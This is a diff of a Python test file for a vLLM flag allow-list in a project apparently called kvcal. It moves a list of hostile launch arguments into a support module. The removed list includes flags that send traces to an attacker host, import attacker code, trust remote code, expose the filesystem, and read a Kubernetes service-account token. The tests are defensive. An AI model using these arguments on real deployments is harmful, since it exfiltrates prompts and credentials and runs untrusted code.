@@ -12,24 +12,16 @@ from typing import Any
 import pytest
 import yaml
 
-from kvcal.core import vllm_allowlist, vllm_flags
+from kvcal import vllm_flags
+from kvcal.core import vllm_allowlist
 from kvcal.core.policy import VLLM_FLAGS_VALUE, Policy, check
 from kvcal.core.vllm_allowlist import DEFAULT_ALLOWED, allowed_names, catalog, refusals, unallowable
 from kvcal.models.spec import KVCalibrationSpec
-from tests.unit.test_decide_support import SPEC, spec
+from tests.support.decide import SPEC, spec
+from tests.support.vllm_args import HOSTILE
 
 REPO = Path(__file__).resolve().parents[2]
 DEFAULT = allowed_names(DEFAULT_ALLOWED)
-
-# The reproductions (each accepted before the allow-list), with what each would do in production.
-HOSTILE = [
-    ["--otlp-traces-endpoint=http://collector.attacker.example:4317"],  # request traces sent out
-    ["--middleware", "attacker.module"],  # vLLM imports it
-    ["--trust-remote-code"],  # runs the model repository's Python
-    ["--allowed-local-media-path=/"],  # any file of the container as "media"
-    ["--enable-log-requests"],  # prompts into the logs
-    ["--chat-template", "/var/run/secrets/kubernetes.io/serviceaccount/token"],  # any file as the template
-]
 
 
 def refused(args: list[str], allowed: frozenset[str] = DEFAULT) -> list[tuple[int, bool]]:
